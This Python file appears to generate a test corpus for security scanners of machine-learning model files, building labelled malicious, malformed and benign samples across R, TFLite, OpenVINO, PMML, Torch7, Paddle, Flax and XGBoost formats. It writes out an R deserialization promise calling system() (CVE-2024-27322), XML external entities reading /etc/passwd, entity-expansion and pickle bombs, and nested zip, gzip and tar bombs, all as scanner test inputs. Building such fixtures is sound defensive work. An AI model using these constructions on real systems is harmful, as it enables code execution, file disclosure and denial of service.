# SPDX-License-Identifier: Apache-2.0
"""R, TFLite, CoreML, OpenVINO, PMML, MXNet, Torch7, Paddle, Flax, XGBoost; and what kills scanners."""
import gzip
import json
import struct
import zlib

from assemble import pickles, zips
from assemble.pickles import attack
from assemble.proto import message
from assemble.tensors import STRING, Raw, gguf, pair, safetensors

# ---- R: serialize() in XDR

SYM, LISTSXP, CLOSXP, ENVSXP, PROMSXP, LANGSXP, STRSXP, CHARSXP, REALSXP, INTSXP, NILVALUE = 1, 2, 3, 4, 5, 6, 16, 9, 14, 13, 254


def r_int(n: int) -> bytes:
    return struct.pack(">i", n)


def r_char(text: str) -> bytes:
    return r_int(CHARSXP | 0x40000) + r_int(len(text)) + text.encode()


def r_symbol(text: str) -> bytes:
    return r_int(SYM) + r_char(text)


def r_string(text: str) -> bytes:
    return r_int(STRSXP) + r_int(1) + r_char(text)


def r_call(function: str, *arguments: bytes) -> bytes:
    return r_int(LANGSXP) + r_symbol(function) + b"".join(r_int(LISTSXP) + one for one in arguments) + r_int(NILVALUE)


def rds(item: bytes) -> bytes:
    return b"X\n" + r_int(3) + struct.pack(">II", 0x00040300, 0x00030500) + r_int(5) + b"UTF-8" + item


def promise(call: bytes) -> bytes:
    return r_int(PROMSXP) + r_int(252) + call  # value: R_UnboundValue, expression, no environment


def rstats(case):
    evil = promise(r_call("system", r_string("true")))
    case("malicious", "a promise, .rds", gzip.compress(rds(evil), mtime=0), name="model.rds", source="CVE-2024-27322")
    case("malicious", "a promise, .rds, not compressed", rds(evil), name="model.rds", source="CVE-2024-27322")
    image = b"RDX3\n" + rds(r_int(LISTSXP | 0x400) + r_symbol("model") + evil + r_int(NILVALUE))
    case("malicious", "a promise in a workspace, .rdata", gzip.compress(image, mtime=0), name="model.rdata", source="CVE-2024-27322")
    case("benign", "three numbers", gzip.compress(rds(r_int(REALSXP) + r_int(3) + struct.pack(">3d", 1, 2, 3)), mtime=0), name="x.rds")
    case("benign", "words", rds(r_string("do not call system()")), name="x.rds")
    case("malformed", "a vector longer than the file", rds(r_int(REALSXP) + r_int(1 << 30)), name="x.rds")


# ---- flatbuffers: just enough of a TFLite model

def tflite(custom: str | None = None, shift: int = 0) -> bytes:
    """A model with one operator code; a custom one is called `custom`."""
    name = (custom or "").encode()
    text = struct.pack("<I", len(name)) + name + b"\0" * (4 - len(name) % 4)
    # file: root offset, "TFL3", model vtable + table, operator codes vector, operator code vtable + table, string
    model_vtable = struct.pack("<HHHH", 8, 12, 4, 8)  # version, operator_codes
    code_vtable = struct.pack("<HHHHHH", 12, 12, 4, 8, 0, 5)  # deprecated_builtin_code, custom_code, version, builtin_code
    head = 8
    model = head + len(model_vtable)
    vector = model + 12
    code = vector + 8 + len(code_vtable)
    string = code + 12
    out = struct.pack("<I", model) + b"TFL3" + model_vtable
    out += struct.pack("<iII", len(model_vtable), 3, vector - (model + 8))
    out += struct.pack("<II", 1, code - (vector + 4)) + code_vtable
    out += struct.pack("<ibBxxI", len(code_vtable), 32 if custom else 9, 0, (string - (code + 8) + shift) & 0xFFFFFFFF)
    return out + text


def graphs(case):
    case("suspicious", "TFLite: Flex operator that reads files", tflite("FlexReadFile"), name="model.tflite")
    case("suspicious", "TFLite: a custom operator", tflite("AcmeOp"), name="model.tflite")
    layer = message((1, "l"), (2, "x"), (3, "y"), (500, message((10, "EvilLayer"))))
    case("suspicious", "CoreML: a custom layer", message((1, 5), (500, message((1, layer)))), name="model.mlmodel")
    xml = '<?xml version="1.0"?>{}<net name="m" version="11"><layers><layer id="0" name="x" type="{}" version="{}">{}</layer></layers></net>'
    case("suspicious", "OpenVINO: an operator of an extension", xml.format("", "Evil", "extension", '<data library="/tmp/x.so"/>'),
         name="model.xml")
    entity = '<!DOCTYPE n [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    case("malicious", "OpenVINO: an external entity", xml.format(entity, "Parameter", "opset1", "&e;"), name="model.xml", source="CWE-611")
    case("malicious", "PMML: an external entity", f'<?xml version="1.0"?>{entity}<PMML version="4.4"><Header copyright="&e;"/></PMML>',
         name="model.pmml", source="CWE-611")
    case("malicious", "PMML: entities that multiply", '<?xml version="1.0"?><!DOCTYPE n [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + ']><PMML version="4.4"><Header '
        'copyright="&j;"/></PMML>', name="model.pmml", source="CWE-776")
    mx = {"nodes": [{"op": "null", "name": "x", "inputs": []}, {"op": "Custom", "name": "c", "attrs": {"op_type": "evil"},
                                                             "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}
    case("suspicious", "MXNet: a Custom operator", json.dumps(mx), name="model-symbol.json")
    function = struct.pack("<iii", 6, 1, 30) + b"\x1bLJ\x02" + b"os.execute('true')".ljust(26, b"\0") + struct.pack("<ii", 3, 2)
    case("malicious", "Torch7: a Lua function", function, name="model.t7")
    case("suspicious", "TFLite: an addition, put together by hand", tflite(), name="model.tflite")
    case("benign", "PMML: a regression", '<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>'
         '<RegressionModel functionName="regression"/></PMML>', name="model.pmml")
    case("benign", "OpenVINO: a parameter", xml.format("", "Parameter", "opset1", "<data/>"), name="model.xml")


def paddle(case):
    var = message((1, "x"), (2, message((1, 7))))
    attribute = message((1, "forward_callable_id"), (2, 0), (3, 0))
    operator = message((1, message((1, "X"), (2, "x"))), (3, "py_func"), (4, attribute))
    block = message((1, 0), (2, (1 << 64) - 1), (3, var), (4, operator))
    case("malicious", "a graph with py_func", message((1, block), (4, message((1, 2005000)))), name="model.pdmodel")
    case("malicious", "os.system in .pdparams", attack(2), name="model.pdparams")
    honest = message((1, 0), (2, (1 << 64) - 1), (3, var), (4, message((1, message((1, "X"), (2, "x"))), (3, "relu"))))
    case("benign", "a graph with relu", message((1, honest), (4, message((1, 2005000)))), name="model.pdmodel")


# ---- msgpack (Flax) and UBJSON (XGBoost)

def msgpack(value) -> bytes:
    if isinstance(value, Bin):
        return value
    if isinstance(value, dict):
        return b"\xdf" + struct.pack(">I", len(value)) + b"".join(msgpack(k) + msgpack(v) for k, v in value.items())
    if isinstance(value, str):
        return b"\xd9" + bytes([len(value)]) + value.encode()
    return b"\xc6" + struct.pack(">I", len(value)) + value if isinstance(value, bytes) else b"\xd2" + struct.pack(">i", value)


class Bin(bytes):
    """Bytes of msgpack that stand as they are."""


def ndarray(content: bytes, shape: bytes = b"\x92\x02\x02") -> Bin:
    body = b"\x93" + shape + msgpack("float32") + msgpack(content)
    return Bin(b"\xc9" + struct.pack(">Ib", len(body), 1) + body)


def structure(case):
    good = {"params": {"dense": {"kernel": ndarray(bytes(16))}}}
    case("malformed", "Flax: an array longer than the file", msgpack({"params": Bin(b"\xdd\xff\xff\xff\xff")}), name="flax_model.msgpack")
    case("malformed", "Flax: shape and data disagree", msgpack({"params": ndarray(bytes(4))}), name="flax_model.msgpack")
    case("malicious", "Flax: a pickle among the parameters", msgpack({"params": attack()}), name="flax_model.msgpack")
    case("malformed", "Flax: 100,000 arrays in arrays", msgpack({"p": Bin(b"\x91" * 100_000 + b"\x01")}), name="flax_model.msgpack")
    case("malformed", "XGBoost UBJSON: a count beyond the end", b"{L\0\0\0\0\0\0\0\x07learner[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff",
         name="model.ubj")
    case("malformed", "TFLite: an offset behind the end", tflite("x", 1 << 20), name="model.tflite")
    case("malformed", "XGBoost JSON: cut", b'{"learner": {"attributes": {}, "learner_model_param": {"num_class": "0"', name="model.json")
    case("benign", "Flax: one layer", msgpack(good), name="flax_model.msgpack")


def bombs(case):
    case("malformed", "zip: 300 MB of zeroes", lambda: zips.plain({"model.pkl": bytes(300_000_000)}, 8), name="model.zip", source="CWE-409")
    case("malformed", "zip in zip, 10^4 x 10 MB", _nest, name="model.zip", source="CWE-409")
    case("malformed", "gzip: 300 MB of zeroes", lambda: gzip.compress(bytes(300_000_000), mtime=0), name="model.pkl.gz", source="CWE-409")
    laughs = pickles.proto(4) + pickles.value(["ha"]) + b"".join(pickles.MEMOIZE + b"(" + b"h" + bytes([i]) + (b"h" + bytes([i])) * 9 + b"l"
                                                                for i in range(32)) + b"."
    case("suspicious", "pickle: lists of lists that multiply, 10^32", laughs, source="CWE-776")
    case("suspicious", "pickle: 100,000 nested marks and tuples", pickles.proto(4) + b"(" * 100_000 + b"t" * 100_000 + b".")
    case("malformed", "pickle: LONG_BINPUT at 2^32-1, a thousand times", pickles.proto(2) + b"N" + b"".join(
        b"r" + struct.pack("<I", 0xFFFFFFFF - i) for i in range(1000)) + b"h\0.")
    case("malformed", "pickle: DUP and TUPLE2, 60 times: 2^60 leaves", pickles.proto(2) + b"N" + b"2\x86" * 60 + b"R.")
    case("malformed", "zip: 20,000 members that do not exist", zips.archive([zips.Member(f"{i}.pkl", b"", listed=False)
         for i in range(20_000)], end={"count": 65535}), name="model.zip")
    case("malformed", "GGUF: 16 million empty strings are said", gguf([pair("a", 9, Raw(struct.pack("<IQ", STRING, 1 << 24)))]),
         name="model.gguf")
    case("malformed", "npy: a header of 2 GB is said", b"\x93NUMPY\x02\0\xff\xff\xff\x7f{" + b" " * 1000, name="a.npy")
    case("malformed", "zlib in zlib in zlib, 200 MB", lambda: zlib.compress(zlib.compress(zlib.compress(bytes(200_000_000)))), name="model.joblib",
         source="CWE-409")
    case("malformed", "safetensors: a JSON of 40 MB of brackets", lambda: safetensors(b"[" * 40_000_000, b""), name="model.safetensors")
    case("malformed", "tar.gz in tar.gz, ten deep, around zeroes", _onion, name="model.tar.gz", source="CWE-409")


def _nest() -> bytes:
    inner = zips.plain({"a": bytes(10_000_000)}, 8)
    for _ in range(4):
        inner = zips.plain({f"{i}.zip": inner for i in range(10)}, 8)
    return inner


def _onion() -> bytes:
    from .archives import tarred
    content = bytes(50_000_000)
    for _ in range(10):
        content = gzip.compress(tarred({"a": content}), mtime=0)
    return content


def add(corpus):
    rstats(corpus.family("r", "R: promises"))
    graphs(corpus.family("other-graphs", "TFLite, CoreML, OpenVINO, PMML, MXNet, Torch7"))
    paddle(corpus.family("paddle", "Paddle: py_func, parameters"))
    structure(corpus.family("other-structure", "Flax, XGBoost, TFLite: structure"))
    bombs(corpus.family("bombs", "what kills scanners: bombs and expansions"))
